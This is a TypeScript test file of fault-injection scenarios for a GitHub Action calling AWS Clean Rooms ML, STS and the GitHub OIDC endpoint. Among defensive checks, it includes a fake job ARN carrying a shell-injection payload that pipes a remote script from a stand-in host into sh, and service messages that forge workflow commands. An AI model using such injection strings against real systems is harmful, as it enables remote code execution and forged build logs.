// The reliability scenarios: each fault a release gate may meet, what the action must do, and
// how many jobs may exist afterwards. faults.test.ts runs every one in-process; e2e-faults.test.ts
// runs those of THROUGH_DIST through dist/index.js, and all of them for RELIABILITY.md (npm run reliability).
import type { Emulator, Fault } from '../emulator/index.js'
import { scaledTiming } from '../src/aws/timing.js'
import { OIDC } from './helpers/fixtures.js'

/**
 * The time scale the end-to-end runs use unless a scenario says otherwise: small, so that
 * scenarios of hangs and retries take seconds. Where a verdict depends on an answer arriving
 * within an attempt's timeout, the scenario takes a larger scale and expresses its delays as a
 * fifth of that timeout at most, so that a loaded machine cannot flip it.
 */
export const E2E_TIME_SCALE = 0.02
const attemptTimeoutMs = (scale: number): number => scaledTiming(scale).retryPolicy.attemptTimeoutMs
const SLOW_SCALE = 0.2

export interface FaultScenario {
  group: 'Clean Rooms ML' | 'Hostile answers' | 'Lost answers' | 'STS' | 'GitHub OIDC' | 'Network'
  name: string
  /** Queues the faults; runs before the action starts. */
  setup: (emulator: Emulator) => void
  inputs?: Record<string, string>
  env?: Record<string, string | undefined>
  expect: {
    code: 0 | 1
    errorType?: string
    jobs: number
    /** Requests per operation, where the count itself is the point (for example: no retry). */
    requests?: Record<string, number>
  }
  /** Liveness bound: the run ends by then, whatever the fault. */
  withinMs: number
  /** CLEANROOMS_ML_ACTION_TIME_SCALE of the end-to-end run; E2E_TIME_SCALE when absent. */
  timeScale?: number
  proves: string
}

const REUSE = { 'if-exists': 'reuse' }
const start = (emulator: Emulator, ...faults: Fault[]): void => {
  emulator.fault('cleanrooms-ml', 'StartAudienceGenerationJob', ...faults)
}
const times = (count: number, fault: Fault): Fault[] => Array.from({ length: count }, () => fault)
const throttle: Fault = { kind: 'error', status: 429, type: 'ThrottlingException', message: 'Rate exceeded' }
/** A loopback port nothing listens on: every connection is refused at once. */
const CLOSED_PORT = 'http://127.0.0.1:1'
const VALID_ARN = 'arn:aws:cleanrooms-ml:us-east-1:123456789012:audience-generation-job/from-a-raw-answer'
const conflict: Fault = { kind: 'error', status: 409, type: 'ConflictException', message: 'The name is taken.' }
const listAnswer = (body: object): Fault => ({
  kind: 'raw',
  status: 200,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body)
})
const list = (emulator: Emulator, ...faults: Fault[]): void => {
  emulator.fault('cleanrooms-ml', 'ListAudienceGenerationJobs', ...faults)
}
/** A job to reuse, named in the inputs of the scenarios that list it. */
const LISTED = {
  name: 'listed',
  configuredAudienceModelArn: 'arn:aws:cleanrooms-ml:us-east-1:123456789012:configured-audience-model/listed'
}
const REUSE_LISTED = { ...REUSE, name: LISTED.name, 'configured-audience-model-arn': LISTED.configuredAudienceModelArn }

function transient(name: string, faults: Fault[], proves: string): FaultScenario {
  return {
    group: 'Clean Rooms ML',
    name,
    setup: (emulator) => start(emulator, ...faults),
    expect: { code: 0, jobs: 1, requests: { StartAudienceGenerationJob: faults.length + 1 } },
    withinMs: 15_000,
    proves
  }
}

export const FAULT_SCENARIOS: FaultScenario[] = [
  transient('throttled once', [throttle], 'throttling is retried with backoff'),
  transient('throttled 3 times in a row', times(3, throttle), 'throttling is retried with backoff'),
  transient('throttled 10 times in a row', times(10, throttle), 'twelve attempts ride out ten throttles'),
  ...[500, 502, 503, 504].map((status) =>
    transient(`HTTP ${status}`, [{ kind: 'error', status, type: 'InternalServerException' }], '5xx is retried')
  ),
  transient('connection reset', [{ kind: 'reset' }], 'network errors are retried'),
  transient('no answer once', [{ kind: 'hang' }], 'each attempt has a timeout, then a retry'),
  {
    group: 'Clean Rooms ML',
    name: 'never answers',
    setup: (emulator) => start(emulator, ...times(20, { kind: 'hang' })),
    expect: { code: 1, errorType: 'TimeoutError', jobs: 0 },
    withinMs: 15_000,
    proves: 'the overall deadline ends the step; nothing hangs'
  },
  {
    group: 'Clean Rooms ML',
    name: 'error type only in the header',
    setup: (emulator) => start(emulator, { kind: 'error', status: 400, type: 'ValidationException', headerOnly: true }),
    expect: { code: 1, errorType: 'ValidationException', jobs: 0, requests: { StartAudienceGenerationJob: 1 } },
    withinMs: 10_000,
    proves: 'errors are named from x-amzn-errortype and not retried'
  },
  {
    group: 'Clean Rooms ML',
    name: 'error type only in the body',
    setup: (emulator) => start(emulator, { kind: 'error', status: 400, type: 'ValidationException', bodyOnly: true }),
    expect: { code: 1, errorType: 'ValidationException', jobs: 0, requests: { StartAudienceGenerationJob: 1 } },
    withinMs: 10_000,
    proves: 'errors are named from the body code / __type'
  },
  {
    group: 'Clean Rooms ML',
    name: 'FIPS pseudo-Region (fips-us-east-1) with the emulator as custom endpoint',
    setup: () => {},
    inputs: { 'aws-region': 'fips-us-east-1' },
    expect: { code: 1, errorType: 'InvalidInput', jobs: 0, requests: { StartAudienceGenerationJob: 0 } },
    withinMs: 10_000,
    proves: 'a FIPS pseudo-Region turns FIPS on, as in AWS SDKs, which the rules refuse with a custom endpoint'
  },
  {
    group: 'Hostile answers',
    name: 'HTTP 403 with no error type and a plain-text body (a proxy)',
    setup: (emulator) =>
      start(emulator, {
        kind: 'raw',
        status: 403,
        reason: 'Forbidden',
        headers: { 'content-type': 'text/plain' },
        body: 'request blocked by proxy policy'
      }),
    expect: { code: 1, errorType: 'HTTP403', jobs: 0, requests: { StartAudienceGenerationJob: 1 } },
    withinMs: 10_000,
    proves: "an untyped error keeps the status line's reason and the body's text; not retried"
  },
  {
    group: 'Hostile answers',
    name: 'malformed JSON body',
    setup: (emulator) => start(emulator, { kind: 'raw', status: 200, body: '{"audienceGenerationJobArn": ' }),
    expect: { code: 1, errorType: 'MalformedResponse', jobs: 0 },
    withinMs: 10_000,
    proves: 'a garbled answer is a clear error, not a crash'
  },
  {
    group: 'Hostile answers',
    name: 'empty body',
    setup: (emulator) => start(emulator, { kind: 'raw', status: 200, body: '' }),
    expect: { code: 1, errorType: 'UnexpectedResponse', jobs: 0 },
    withinMs: 10_000,
    proves: 'a 200 without an ARN is a clear error'
  },
  {
    group: 'Hostile answers',
    name: 'ARN that fails the model pattern',
    setup: (emulator) =>
      start(emulator, { kind: 'raw', status: 200, body: '{"audienceGenerationJobArn":"not-an-arn"}' }),
    expect: { code: 1, errorType: 'UnexpectedResponse', jobs: 0 },
    withinMs: 10_000,
    proves: 'outputs only ever carry a valid ARN'
  },
  {
    group: 'Hostile answers',
    name: 'huge body (5 MB)',
    // Reading 4 MiB must never be mistaken for a hang: an attempt may take 3 s here.
    timeScale: SLOW_SCALE,
    setup: (emulator) =>
      start(emulator, {
        kind: 'raw',
        status: 200,
        body: `{"audienceGenerationJobArn":"${VALID_ARN}","x":"${'x'.repeat(5e6)}"}`
      }),
    expect: { code: 1, errorType: 'ResponseTooLarge', jobs: 0 },
    withinMs: 10_000,
    proves: 'answers are read up to 4 MiB'
  },
  {
    group: 'Hostile answers',
    name: 'unexpected fields',
    setup: (emulator) =>
      start(emulator, {
        kind: 'raw',
        status: 200,
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ audienceGenerationJobArn: VALID_ARN, surprise: { nested: [1, 2] }, status: 42 })
      }),
    expect: { code: 0, jobs: 0 },
    withinMs: 10_000,
    proves: 'unknown members are ignored safely'
  },
  {
    group: 'Hostile answers',
    name: 'status with a line break and ::error::',
    setup: (emulator) =>
      emulator.fault('cleanrooms-ml', 'GetAudienceGenerationJob', {
        kind: 'raw',
        status: 200,
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ status: 'CREATE_IN_PROGRESS\n::error::forged ##[error]forged' })
      }),
    inputs: { 'wait-for-completion': 'true' },
    expect: { code: 0, jobs: 1 },
    withinMs: 10_000,
    proves: "the service's text is logged on one line; no forged annotation"
  },
  {
    group: 'Hostile answers',
    name: 'error message with ::error:: and ##[stop-commands]',
    setup: (emulator) =>
      start(emulator, {
        kind: 'error',
        status: 400,
        type: 'ValidationException',
        message: 'bad\n::error::forged\n##[stop-commands]halt'
      }),
    expect: { code: 1, errorType: 'ValidationException', jobs: 0 },
    withinMs: 10_000,
    proves: 'the one annotation carries the message; commands are not stopped'
  },
  {
    group: 'Hostile answers',
    name: 'List repeats its nextToken, if-exists: reuse',
    setup: (emulator) => {
      start(emulator, conflict)
      list(emulator, ...times(2, listAnswer({ audienceGenerationJobs: [], nextToken: 'again' })))
    },
    inputs: REUSE,
    expect: { code: 1, errorType: 'MalformedResponse', jobs: 0, requests: { ListAudienceGenerationJobs: 2 } },
    withinMs: 10_000,
    proves: 'a listing that would never end is stopped at the repeated token'
  },
  {
    group: 'Hostile answers',
    name: 'List gives the job an ARN that fails the model pattern',
    setup: (emulator) => {
      start(emulator, conflict)
      list(
        emulator,
        listAnswer({
          audienceGenerationJobs: [
            { ...LISTED, status: 'ACTIVE', audienceGenerationJobArn: 'x"; curl https://example.test | sh; echo "' }
          ]
        })
      )
    },
    inputs: REUSE_LISTED,
    expect: { code: 1, errorType: 'UnexpectedResponse', jobs: 0, requests: { ListAudienceGenerationJobs: 1 } },
    withinMs: 10_000,
    proves: 'outputs only ever carry a valid ARN, from List as from Start'
  },
  {
    group: 'Lost answers',
    name: 'job listed only on the third listing after ConflictException (eventual consistency)',
    setup: (emulator) => {
      emulator.addJob({ ...LISTED, status: 'ACTIVE' })
      list(emulator, ...times(4, listAnswer({ audienceGenerationJobs: [] })))
    },
    inputs: REUSE_LISTED,
    expect: { code: 0, jobs: 1, requests: { StartAudienceGenerationJob: 1, ListAudienceGenerationJobs: 5 } },
    withinMs: 10_000,
    proves: 'the listing is repeated with backoff until the job shows'
  },
  {
    group: 'Lost answers',
    name: 'job never listed after ConflictException',
    setup: (emulator) => start(emulator, conflict),
    inputs: REUSE,
    expect: { code: 1, errorType: 'ExistingJobMismatch', jobs: 0, requests: { ListAudienceGenerationJobs: 10 } },
    withinMs: 10_000,
    proves: 'five listings with backoff, then a clear error'
  },
  {
    group: 'Lost answers',
    name: 'answer lost after the job was stored, if-exists: reuse',
    setup: (emulator) => start(emulator, { kind: 'store-then-reset' }),
    inputs: REUSE,
    expect: { code: 0, jobs: 1 },
    withinMs: 10_000,
    proves: 'the retry meets ConflictException and carries on with the one job'
  },
  {
    group: 'Lost answers',
    name: 'answer lost after the job was stored, if-exists: fail',
    setup: (emulator) => start(emulator, { kind: 'store-then-reset' }),
    expect: { code: 1, errorType: 'ConflictException', jobs: 1 },
    withinMs: 10_000,
    proves: 'never a second job; the annotation says the lost attempt created it'
  },
  {
    group: 'Lost answers',
    name: 'answer sent a byte at a time, if-exists: reuse',
    setup: (emulator) => start(emulator, { kind: 'trickle', intervalMs: 100 }),
    inputs: REUSE,
    expect: { code: 0, jobs: 1 },
    withinMs: 15_000,
    proves: 'a slow answer is abandoned at the attempt timeout; the job is reused'
  },
  {
    group: 'STS',
    name: 'STS throttles',
    setup: (emulator) =>
      emulator.fault('sts', 'AssumeRoleWithWebIdentity', { kind: 'error', status: 400, type: 'Throttling' }),
    inputs: OIDC,
    expect: { code: 0, jobs: 1, requests: { AssumeRoleWithWebIdentity: 2 } },
    withinMs: 10_000,
    proves: 'STS throttling is retried'
  },
  {
    group: 'STS',
    name: 'STS answers 500 and 503',
    setup: (emulator) =>
      emulator.fault(
        'sts',
        'AssumeRoleWithWebIdentity',
        { kind: 'error', status: 500 },
        { kind: 'error', status: 503 }
      ),
    inputs: OIDC,
    expect: { code: 0, jobs: 1, requests: { AssumeRoleWithWebIdentity: 3 } },
    withinMs: 10_000,
    proves: 'STS 5xx is retried'
  },
  {
    group: 'STS',
    name: 'STS rejects the token (InvalidIdentityToken)',
    setup: (emulator) =>
      emulator.fault('sts', 'AssumeRoleWithWebIdentity', { kind: 'error', status: 400, type: 'InvalidIdentityToken' }),
    inputs: OIDC,
    expect: {
      code: 1,
      errorType: 'InvalidIdentityTokenException',
      jobs: 0,
      requests: { AssumeRoleWithWebIdentity: 1 }
    },
    withinMs: 10_000,
    proves: 'not retried; the hint names the trust policy sub and aud conditions'
  },
  {
    group: 'STS',
    name: 'STS denies the role (AccessDenied)',
    setup: (emulator) =>
      emulator.fault('sts', 'AssumeRoleWithWebIdentity', { kind: 'error', status: 403, type: 'AccessDenied' }),
    inputs: OIDC,
    expect: { code: 1, errorType: 'AccessDenied', jobs: 0, requests: { AssumeRoleWithWebIdentity: 1 } },
    withinMs: 10_000,
    proves: 'not retried; the hint names the trust policy'
  },
  {
    group: 'GitHub OIDC',
    name: 'token endpoint missing (no id-token permission)',
    setup: () => {},
    inputs: OIDC,
    env: { ACTIONS_ID_TOKEN_REQUEST_URL: undefined, ACTIONS_ID_TOKEN_REQUEST_TOKEN: undefined },
    expect: { code: 1, errorType: 'MissingIdTokenPermission', jobs: 0 },
    withinMs: 10_000,
    proves: 'the annotation says to add permissions: id-token: write'
  },
  {
    group: 'GitHub OIDC',
    name: 'token endpoint slow (a fifth of the attempt timeout)',
    timeScale: SLOW_SCALE,
    setup: (emulator) => emulator.fault('oidc', 'GetIdToken', { kind: 'delay', ms: attemptTimeoutMs(SLOW_SCALE) / 5 }),
    inputs: OIDC,
    expect: { code: 0, jobs: 1, requests: { GetIdToken: 1 } },
    withinMs: 10_000,
    proves: 'a slow answer within the attempt timeout is simply awaited'
  },
  {
    group: 'GitHub OIDC',
    name: 'token endpoint answers 503',
    setup: (emulator) => emulator.fault('oidc', 'GetIdToken', { kind: 'error', status: 503 }),
    inputs: OIDC,
    expect: { code: 0, jobs: 1, requests: { GetIdToken: 2 } },
    withinMs: 10_000,
    proves: 'OIDC 5xx is retried'
  },
  {
    group: 'GitHub OIDC',
    name: 'token endpoint never answers',
    setup: (emulator) => emulator.fault('oidc', 'GetIdToken', ...times(20, { kind: 'hang' })),
    inputs: OIDC,
    expect: { code: 1, errorType: 'TimeoutError', jobs: 0, requests: { AssumeRoleWithWebIdentity: 0 } },
    withinMs: 15_000,
    proves: 'the deadline ends the step'
  },
  ...(
    [
      ['Clean Rooms ML', { AWS_ENDPOINT_URL_CLEANROOMSML: CLOSED_PORT }, {}],
      ['STS', { AWS_ENDPOINT_URL_STS: CLOSED_PORT }, OIDC],
      ['the GitHub OIDC endpoint', { ACTIONS_ID_TOKEN_REQUEST_URL: `${CLOSED_PORT}/token?api-version=2.0` }, OIDC]
    ] as const
  ).map(([service, env, inputs]): FaultScenario => ({
    group: 'Network',
    name: `${service} refuses connections`,
    setup: () => {},
    inputs,
    env,
    expect: { code: 1, errorType: 'NetworkError', jobs: 0 },
    withinMs: 15_000,
    proves: 'named NetworkError with the code and host, after bounded retries'
  }))
]

/**
 * The scenarios e2e-faults.test.ts runs through dist/index.js on every `npm test`: for each group, the
 * faults whose handling rests on what only a real process has (real sockets and timers, the bundle's
 * own copies of the HTTP and SDK modules, the runner's stdout): retries with real backoff, a reset
 * socket, an answer trickling past the attempt timeout, the overall deadline, a 5 MB body, a slow
 * answer awaited, a refused connection, and hostile text on the real stdout.
 */
export const THROUGH_DIST = new Set([
  'throttled 3 times in a row',
  'connection reset',
  'never answers',
  'huge body (5 MB)',
  'status with a line break and ::error::',
  'error message with ::error:: and ##[stop-commands]',
  'answer lost after the job was stored, if-exists: reuse',
  'answer sent a byte at a time, if-exists: reuse',
  'STS answers 500 and 503',
  'STS rejects the token (InvalidIdentityToken)',
  'token endpoint missing (no id-token permission)',
  'token endpoint slow (a fifth of the attempt timeout)',
  'Clean Rooms ML refuses connections'
])
